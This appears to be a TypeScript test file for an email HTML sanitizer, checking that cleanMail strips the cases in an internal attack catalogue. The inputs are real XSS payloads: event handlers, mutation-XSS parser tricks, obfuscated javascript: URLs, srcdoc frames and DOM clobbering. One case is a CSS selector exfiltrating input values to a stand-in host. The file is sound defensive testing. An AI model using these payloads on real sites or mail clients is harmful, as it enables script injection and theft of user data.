import { cleanMail } from './cleanMail';

/** Attack cases 1 and 10 to 27 in the browser's own pass; the service's is in azure-functions/src/intake/parse/cleanHtml.test.ts. The numbers are those of our catalogue, section A1. */
const NONE = { pictures: new Map<string, string>(), remote: false, quotes: true };
const RUNS = /^on|^(?:srcset|formaction|action|class|id|name|background|poster|xlink:href|usemap|ping|autofocus|contenteditable|tabindex)$/i;

test.each([
  [
    '1 handlers',
    '<img src=x onerror=alert(1)><svg/onload=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>x</details><input autofocus onfocus=alert(1)>',
  ],
  ['1 without blanks', '<img/src="x"/onerror=alert(1)><script/x>alert(1)</script/y>'],
  ['10 mathml confusion', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
  ['10 form in form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['11 deep', `${'<div>'.repeat(120)}<table><svg><form><math><style><img src=x onerror=alert(1)>`],
  [
    '12 raw text',
    '<xmp><script>alert(1)</script></xmp><noembed><img src=x onerror=alert(1)></noembed><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><textarea>&lt;/textarea><svg/onload=alert(1)></textarea>',
  ],
  ['13 templates and shadows', '<template shadowrootmode=open><script>alert(1)</script></template><slot name=x></slot>'],
  ['14 animation', '<svg><a><animate attributeName=href values=javascript:alert(1) by=x to=javascript:alert(1) /><text>x</text></a></svg>'],
  ['15, 16 style sheets', '<style>@import url(//e.example/x.css);input[value^=a]{background:url(//e.example/a)}</style>x'],
  ['18 password form', '<form action=https://e.example><input type=password><button formaction=javascript:alert(1)>Go</button></form>'],
  [
    '19 base, refresh, link',
    '<base href=https://e.example/><meta http-equiv=refresh content="0;url=https://e.example"><link rel=stylesheet href=https://e.example/x.css>x',
  ],
  [
    '20 targets that run',
    '<a href="jav&#x09;ascript:alert(1)">a</a><a href="vbscript:x">b</a><a href="data:text/html,<script>alert(1)</script>">c</a><a href="&#1;javascript:alert(1)">d</a><svg><a xlink:href="javascript:alert(1)">e</a></svg>',
  ],
  ['21 svg as data', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['22 clobbering', '<p id=attributes name=getElementById>x</p><a id=__proto__ name=constructor>x</a><img name=body>'],
  ['23 looks of the host', '<div class="ms-Dialog O365_MainLink" id="SuiteNavPlaceHolder">x</div>'],
  ['24 frames', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x><portal src=x></portal><fencedframe></fencedframe>'],
  ['26 text that looks like a link', 'http://x" onmouseover=alert(1) <a href=\'http://x" onmouseover=alert(1)\'>x</a>'],
  [
    '27 what the parts of our own work put together',
    '<img src="cid:&quot; onerror=alert(1) x=&quot;"><img data-remote-src="javascript:alert(1)"><p data-quote="&quot;><img src=x onerror=alert(1)>">x</p>',
  ],
  [
    '71 remote',
    '<img src="https://t.example/p.gif" srcset="https://t.example/2"><video poster="https://t.example/v"></video><p style="background:url(https://t.example/p)">x</p>',
  ],
])('%s', (_, html) => {
  const { html: cleaned } = cleanMail(html, NONE);
  const page = new DOMParser().parseFromString(cleaned, 'text/html');
  const all = Array.from(page.body.querySelectorAll('*'));
  expect(
    all
      .filter((element) =>
        /^(?:script|style|svg|math|form|input|button|textarea|select|iframe|object|embed|base|meta|link|template|slot|video|audio|portal|fencedframe|xmp|noscript|noembed)$/i.test(
          element.tagName,
        ),
      )
      .map((element) => element.tagName),
  ).toEqual([]);
  expect(
    all
      .flatMap((element) => Array.from(element.attributes))
      .filter(({ name }) => RUNS.test(name))
      .map(({ name }) => name),
  ).toEqual([]);
  expect(
    all
      .flatMap((element) => ['href', 'src'].map((name) => element.getAttribute(name) ?? ''))
      .filter((address) => address !== '' && !/^(?:https?:|mailto:|tel:|data:image\/(?:png|jpeg|gif|webp))/i.test(address)),
  ).toEqual([]);
  expect(all.filter((element) => /^https?:/i.test(element.getAttribute('src') ?? '')).length).toBe(0);
  expect(cleaned).not.toMatch(/url\(|expression\(/i);
  // Cleaning what was cleaned makes nothing new.
  expect(cleanMail(cleaned, NONE).html).toBe(cleaned);
});

test('17 nothing of a mail stands in front of the page', () => {
  const { html } = cleanMail('<div style="position:fixed;inset:0;z-index:9999;background:url(//e.example)">x</div>', NONE);
  expect(html).not.toMatch(/position|z-index|inset|url/);
});
